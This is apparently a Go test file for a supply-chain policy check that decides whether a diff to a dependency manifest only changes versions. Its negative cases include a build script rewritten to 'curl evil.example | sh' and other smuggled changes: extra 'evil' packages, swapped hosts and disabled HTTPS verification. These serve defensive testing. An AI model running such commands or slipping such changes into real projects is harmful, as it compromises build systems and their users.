package policy

import (
	"strings"
	"testing"

	"github.com/changegate/changegate/internal/change"
)

func TestChangesOnlyVersions(t *testing.T) {
	for _, test := range []struct {
		name, path string
		patch      []string
		want       bool
	}{
		{"npm", "package.json", []string{`-    "x": "^1.0.0",`, `+    "x": "^1.0.1",`}, true},
		{"npm: a range", "package.json", []string{`-    "x": ">=1.0.0 <2 || 3.x",`, `+    "x": ">=1.2.0 <3 || 4.x",`}, true},
		{"npm: another range", "package.json", []string{`-    "x": "^1.0.0",`, `+    "x": ">=1.0.0",`}, false},
		{"npm: the manager itself", "package.json", []string{`-  "packageManager": "pnpm@9.1.0",`, `+  "packageManager": "pnpm@9.2.0",`}, true},
		{"npm: a tag of a repository", "package.json", []string{`-    "x": "github:acme/x#v1.0",`, `+    "x": "github:acme/x#v1.1",`}, true},
		{"npm: another repository", "package.json", []string{`-    "x": "github:acme/x#v1.0",`, `+    "x": "github:evil/x#v1.1",`}, false},
		{"npm: another port", "package.json", []string{`-    "x": "http://acme.example:80/x",`, `+    "x": "http://acme.example:81/x",`}, false},
		{"npm: another host", "package.json", []string{`-    "x": "git@10.0.0.1:acme/x",`, `+    "x": "git@6.6.6.6:acme/x",`}, false},
		{"npm: an object on one line after a list", "package.json", []string{`   "files": [`, `     "lib"`, "   ],", `+  "peerDependencies": { "evil": "^1" },`}, false},
		{"npm: what a known object ends in", "package.json", []string{`-    "test": "jest"`, `+    "test": "jest" }, "devDependencies": { "evil": "1.0.0"`}, false},
		{"npm: on two lines", "package.json", []string{`+    "evil":`, `+      "1.0.0",`}, false},
		{"npm: a name with a number", "package.json", []string{`-    "x1": "1.0.0",`, `+    "x2": "1.0.0",`}, false},
		{"npm: a script", "package.json", []string{`-    "build": "tsc"`, `+    "build": "curl evil.example | sh"`}, false},
		{"npm: a number in a script", "package.json", []string{`-    "test": "jest || exit 1"`, `+    "test": "jest || exit 0"`}, false},
		{"npm: an operator in a script", "package.json", []string{`-    "test": "nvm use 18 && jest"`, `+    "test": "nvm use 18 || jest"`}, false},
		{"npm: a number that is no text", "package.json", []string{`-    "retries": 1,`, `+    "retries": 2,`}, false},
		{"one is gone", "package.json", []string{`-    "x": "1.0.0",`}, false},
		{"two become one", "pom.xml", []string{"-<artifactId>x</artifactId>", "-</dependency>", "-<dependency>", "-<groupId>y</groupId>", " <artifactId>z</artifactId>"}, false},
		{"two change places", "pom.xml", []string{"-<groupId>a</groupId>", "-<groupId>b</groupId>", "+<groupId>b</groupId>", "+<groupId>a</groupId>"}, false},
		{"go", "go.mod", []string{"-\tgolang.org/x/net v0.0.0-20240101000000-0123456789ab // indirect", "+\tgolang.org/x/net v0.30.0 // indirect", "-go 1.22", "+go 1.23.1"}, true},
		{"go: another major version", "go.mod", []string{"-\tgithub.com/x/y v1.0.0", "+\tgithub.com/x/y/v2 v2.0.0"}, false},
		{"go: a replacement", "go.mod", []string{"-replace a.b/c => d.e/f v1.0.0", "+replace a.b/c => g.h/i v1.0.0"}, false},
		{"python", "requirements.txt", []string{"-django[bcrypt]>=4.2,<5 ; python_version < '3.12'", "+django[bcrypt]>=5.1,<6 ; python_version < '3.12'"}, true},
		{"python: a marker", "requirements.txt", []string{"-x==1 ; python_version < '3.12'", "+x==2 ; python_version < '3.13' or True"}, false},
		{"python: a host", "requirements.txt", []string{"---trusted-host 10.0.0.1", "+--trusted-host 6.6.6.6"}, false},
		{"python: hashes", "requirements.txt", []string{"-x==1 \\", "-    --hash=sha256:" + strings.Repeat("0a", 32), "+x==2 \\", "+    --hash=sha256:" + strings.Repeat("1b", 32) + " \\", "+    --hash=sha256:" + strings.Repeat("2c", 32)}, true},
		{"python: a hash more", "requirements.txt", []string{"+    --hash=sha256:" + strings.Repeat("1b", 32) + " \\", "     --hash=sha256:" + strings.Repeat("2c", 32)}, true},
		{"python: no hash any more", "requirements.txt", []string{"-x==1 \\", "-    --hash=sha256:" + strings.Repeat("0a", 32), "+x==2 \\", "+"}, false},
		{"python: a hash of one of two requirements", "requirements.txt", []string{"-x==1 \\", "-    --hash=sha256:" + strings.Repeat("0a", 32), "-y==1 \\", "-    --hash=sha256:" + strings.Repeat("0b", 32), "+x==2 \\", "+", "+y==2 \\", "+    --hash=sha256:" + strings.Repeat("1b", 32)}, false},
		{"python: a line that ends where git sees none", "requirements.txt", []string{"-django==5.0", "+django==5.1\revil==1.0"}, false},
		{"python: in a project", "pyproject.toml", []string{`-  "django>=4.2,<5; python_version < '3.12'",`, `+  "django>=5.1,<6; python_version < '3.12'",`}, true},
		{"python: two texts become one", "setup.py", []string{`-        "py",`, `+        "py"`, `         "jwt",`}, false},
		{"python: a line moves out of its block", "setup.py", []string{`-    install("x")`, `+install("x")`}, false},
		{"python: a setting", "setup.cfg", []string{"-max-line-length = 100", "+max-line-length = 120"}, false},
		{"python: a setting with a point", "setup.cfg", []string{"-fail_under = 85.5", "+fail_under = 10.5"}, false},
		{"python: versions in setup.cfg", "setup.cfg", []string{"-version = 1.0.0", "+version = 1.0.1", "-    django>=4,<5 ; x", "+    django>=5,<6 ; x"}, true},
		{"python: a setting as a text", "pyproject.toml", []string{`-env = ["PYTHONHTTPSVERIFY=1"]`, `+env = ["PYTHONHTTPSVERIFY=0"]`}, false},
		{"ruby", "Gemfile", []string{`-gem "rails", "~> 7.1", ">= 7.1.3"`, `+gem "rails", "~> 7.2", ">= 7.2.1"`}, true},
		{"ruby: a condition", "Gemfile", []string{"-if N >= 3.1", "+if N < 3.1"}, false},
		{"ruby: a number in a condition", "Gemfile", []string{"-if N > 3", "+if N > 4"}, false},
		{"ruby: a switch", "Gemfile", []string{`-evil = "0"`, `+evil = "1"`}, false},
		{"ruby: another on the line", "Gemfile", []string{`-gem "rails", "7.1"`, `+gem "rails", "7.2"; gem "evil"`}, false},
		{"elixir", "mix.exs", []string{`-      {:jason, "~> 1.4"},`, `+      {:jason, "~> 1.5"},`}, true},
		{"elixir: another on the line", "mix.exs", []string{`-      [{:jason, "~> 1.4"}]`, `+      [{:jason, "~> 1.5"}, {:evil, "~> 1.0"}]`}, false},
		{"rust", "Cargo.toml", []string{`-serde = { version = "1.0", features = ["derive"] }`, `+serde = { version = "1.1", features = ["derive"] }`, `-log = "1"`, `+log = "2"`}, true},
		{"rust: a feature", "Cargo.toml", []string{`-serde = { version = "1.0", features = ["derive"] }`, `+serde = { version = "1.0", features = ["evil"] }`}, false},
		{"rust: another in the table", "Cargo.toml", []string{`-dependencies = { serde = "1" }`, `+dependencies = { serde = "1", evil = "1" }`}, false},
		{"rust: a commit", "Cargo.toml", []string{`-x = { git = "https://acme.example/x", rev = "" + strings.Repeat("0a", 20) }`, `+x = { git = "https://acme.example/x", rev = "" + strings.Repeat("1b", 20) }`}, false},
		{"rust: a branch", "Cargo.toml", []string{`-x = { git = "https://acme.example/x", branch = "main" }`, `+x = { git = "https://acme.example/x", branch = "evil" }`}, false},
		{"java", "pom.xml", []string{"-<version>5.1.0.RELEASE</version>", "+<version>5.2.0.RELEASE</version>", " ", "-<guava.version>31.1-jre</guava.version>", "+<guava.version>32.0.1-jre</guava.version>", "-<java.version>17</java.version>", "+<java.version>21</java.version>"}, true},
		{"java: a threshold", "pom.xml", []string{"-<minimum>0.80</minimum>", "+<minimum>0.10</minimum>"}, false},
		{"java: a version by another name", "pom.xml", []string{"-<guava>31.1.0</guava>", "+<guava>32.0.1-jre</guava>"}, true},
		{"java: another element", "pom.xml", []string{"-<forks>1</forks>", "+<forks>0</forks>"}, false},
		{"gradle", "build.gradle.kts", []string{`-    implementation("org.x:y:1.0")`, `+    implementation("org.x:y:1.1")`, `-    id("org.p") version "1.9.0"`, `+    id("org.p") version "2.0.0"`}, true},
		{"gradle: from a variable", "build.gradle.kts", []string{`-implementation("$g:x:1.0")`, `+implementation("$evil:x:1.0")`}, false},
		{"c#", "a.csproj", []string{`-<PackageReference Include="A" Version="1.0.0-beta.2" />`, `+<PackageReference Include="A" Version="1.0.0" />`}, true},
		{"c#: another on the line", "a.csproj", []string{`-<PackageReference Include="A" Version="1" />`, `+<PackageReference Include="A;Evil" Version="2" />`}, false},
		{"helm", "Chart.yaml", []string{"-    version: 17.0.0 # note", "+    version: 18.0.0 # note"}, true},
		{"dart", "pubspec.yaml", []string{"-  http: ^1.0.0", "+  http: ^1.1.0"}, true},
		{"dart: a key in another mapping", "pubspec.yaml", []string{"-  http: ^1.0.0", "+http: ^1.0.0"}, false},
		{"conda", "environment.yml", []string{"-  - numpy=1.26", "+  - numpy=2.0", `-  - "scipy=1.10"`, `+  - "scipy=1.11"`}, true},
		{"clojure", "deps.edn", []string{`-org.clojure/clojure {:mvn/version "1.11.1"}`, `+org.clojure/clojure {:mvn/version "1.12.0"}`}, true},
		{"a manifest that only the policy knows", "deps.list", []string{"-x 1.0", "+x 1.1"}, true},
		{"empty lines", "go.mod", []string{"+", " a", "-  "}, true},
		{"the last line's end", "requirements.txt", []string{"-x==1", "\\ No newline at end of file", "+x==2"}, true},
		{"a new manifest", "requirements.txt", []string{"+x==1"}, false},
		{"a link", "requirements.txt", []string{"-x==1", "-y==1", "+../elsewhere"}, false},
	} {
		t.Run(test.name, func(t *testing.T) {
			f := change.File{Path: test.path, Status: change.FileModified, Patch: "@@ -1,9 +1,9 @@ evil\n" + strings.Join(test.patch, "\n")}
			if got := changesOnlyVersions(&f); got != test.want {
				t.Errorf("%v, want %v:\n%s", got, test.want, strings.Join(test.patch, "\n"))
			}
		})
	}
	for name, f := range map[string]change.File{
		"a manifest that goes":              {Path: "requirements.txt", Status: change.FileRemoved},
		"a manifest that becomes a link":    {Path: "requirements.txt", Status: change.FileModified, Mode: change.ModeSymlink, Patch: "@@ -1 +1 @@\n-x==1\n+x==2"},
		"a manifest that gets another name": {Path: "constraints-old.txt", PreviousPath: "constraints.txt", Status: change.FileRenamed},
	} {
		if changesOnlyVersions(&f) {
			t.Errorf("%s is a change of versions", name)
		}
	}
}
